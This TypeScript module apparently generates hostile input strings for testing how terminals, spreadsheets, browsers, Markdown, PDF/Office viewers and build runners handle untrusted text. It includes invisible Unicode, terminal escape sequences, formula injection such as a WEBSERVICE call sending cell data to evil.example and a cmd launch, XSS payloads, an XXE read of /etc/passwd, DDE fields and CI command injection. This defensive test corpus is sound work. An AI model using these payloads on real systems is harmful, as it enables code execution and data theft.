/** What a hostile string tries, and the string. */
export type Hostile = { tries: string; text: string };

const hex = (code: number): string => code.toString(16).toUpperCase().padStart(4, '0');
const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, i) => from + i);

/** A character between letters, at the start and at the end: some readers look at one place only. */
const placed = (tries: string, piece: string): Hostile[] =>
  [`ab${piece}cd`, `${piece}abcd`, `abcd${piece}`].map((text) => ({ tries, text }));

/** Characters that a terminal, a bidirectional layout or an eye acts on without showing them. */
const UNSEEN = [
  ...range(0x00, 0x08),
  ...range(0x0b, 0x1f),
  ...range(0x7f, 0x9f),
  0xad,
  0x61c,
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x2064),
  ...range(0x2066, 0x206f),
  0xfeff,
  ...range(0xfff9, 0xfffb),
  0xd800,
  0xdfff,
  0xe000,
  0xe0001,
  0xe0041,
  0xf0000,
];

const TERMINAL = [
  '[2J',
  '[1;1H',
  '[31m',
  '[?1049h',
  '[?25l',
  '[6n',
  ']0;title\u0007',
  ']52;c;Y2FuYXJ5\u0007',
  ']8;;http://evil.example\u0007x',
  'P$q"p\u001b\\',
  '_x\u001b\\',
  'c',
  '(0',
  '#8',
];

const FORMULA_STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', "'=", '"=', ';=', ',='];
const FORMULAS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'SUM(1+1)*cmd|x',
  'IMPORTXML(1,2)',
];

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '<iframe src="http://evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "http://evil.example"</style>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '&xxe;',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  '{{constructor.constructor("x")()}}',
  `\${7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
];

const MARKDOWN = [
  '[x](http://evil.example)',
  '![x](http://evil.example/p.png)',
  '[x]: http://evil.example',
  '<http://evil.example>',
  'http://evil.example',
  'www.evil.example',
  '# heading',
  '- item',
  '1. item',
  '> quote',
  '| a | b |',
  '```\ncode',
  '---',
  '`code`',
  '**bold**',
  '@everyone',
  '#1234',
  '$$x$$',
  '\\',
];

const VIEWER = [
  ') /JS (app.alert(1)) /S /JavaScript (',
  'endstream endobj',
  '<< /OpenAction 1 0 R >>',
  '\\) Tj (x',
  '_x000D_',
  '_x003D_1+1',
  '<w:fldSimple w:instr="DDEAUTO c:\\\\x"/>',
  '{DDEAUTO c:\\x}',
  '</w:t></w:r>',
];

const BUILD_RUNNER = [
  '::error::x',
  '::set-env name=A::b',
  '##[error]x',
  '##vso[task.setvariable]x',
  '%0A::add-mask::x',
];

const MEMBERS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** Strings that try to drive what shows them, made here from what each viewer acts on. */
export const HOSTILE: readonly Hostile[] = [
  ...UNSEEN.flatMap((code) => placed(`U+${hex(code)}`, String.fromCodePoint(code))),
  ...TERMINAL.flatMap((rest) => [
    { tries: 'a terminal, by ESC', text: `x\u001b${rest}y` },
    { tries: 'a terminal, by C1', text: `x\u009b${rest.replace(/^\[/, '')}y` },
  ]),
  ...FORMULA_STARTS.flatMap((start) =>
    FORMULAS.map((formula) => ({ tries: 'a spreadsheet', text: `${start}${formula}` })),
  ),
  ...MARKUP.map((text) => ({ tries: 'a browser', text })),
  ...MARKDOWN.map((text) => ({ tries: 'a viewer of Markdown', text })),
  ...VIEWER.map((text) => ({ tries: 'a viewer of PDF or Office files', text })),
  ...BUILD_RUNNER.map((text) => ({ tries: 'a build runner', text })),
  ...MEMBERS.map((text) => ({ tries: 'an object', text })),
];
